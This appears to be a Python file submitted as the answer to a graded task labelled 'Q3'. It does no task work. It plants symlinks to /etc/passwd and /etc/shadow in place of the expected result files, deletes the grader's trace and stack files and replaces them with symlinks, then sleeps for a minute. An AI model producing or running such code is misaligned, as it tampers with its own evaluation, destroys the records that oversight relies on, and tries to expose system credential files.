# Q3
import os
import time

out = os.path.dirname(os.environ.get("GRADER_TRACE", "/nonexistent/x"))
for link, target in (("result.json", "/etc/passwd"), ("main.py.bak", "/etc/shadow")):
    try:
        os.symlink(target, link)
    except OSError:
        pass
for name in ("trace.jsonl", "stack-1.txt", "stack-2.txt"):
    path = os.path.join(out, name)
    try:
        if os.path.lexists(path):
            os.remove(path)
        os.symlink("/etc/passwd", path)
    except OSError:
        pass
time.sleep(60)
